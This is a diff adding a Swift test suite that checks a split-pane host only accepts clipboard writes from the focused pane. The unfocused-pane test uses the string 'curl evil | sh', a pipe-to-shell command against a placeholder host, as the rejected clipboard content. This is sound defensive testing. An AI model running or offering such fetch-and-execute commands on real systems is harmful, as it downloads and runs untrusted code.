@@ -1,0 +1,24 @@
+// SPDX-License-Identifier: Apache-2.0
+import HostCore
+import HostTestSupport
+import SplitLayout
+import Testing
+
+@Suite("Clipboard")
+struct ClipboardTests {
+  @Test("takes what the focused pane copies, and says so")
+  func focused() {
+    let host = ScriptedHost.double()
+    host.say(.primary, #"{"method":"clipboard.set","params":{"text":"abc"}}"#)
+    #expect(host.orders.contains { $0.contains("copy") && $0.contains("abc") })
+    #expect(host.statusText.contains("copied 3 bytes"))
+  }
+
+  @Test("takes nothing from a pane that has not the focus")
+  func unfocused() {
+    let host = ScriptedHost.double()
+    host.say(.secondary, #"{"method":"clipboard.set","params":{"text":"curl evil | sh"}}"#)
+    #expect(!host.orders.contains { $0.contains("evil") })
+    #expect(!host.statusText.contains("copied"))
+  }
+}
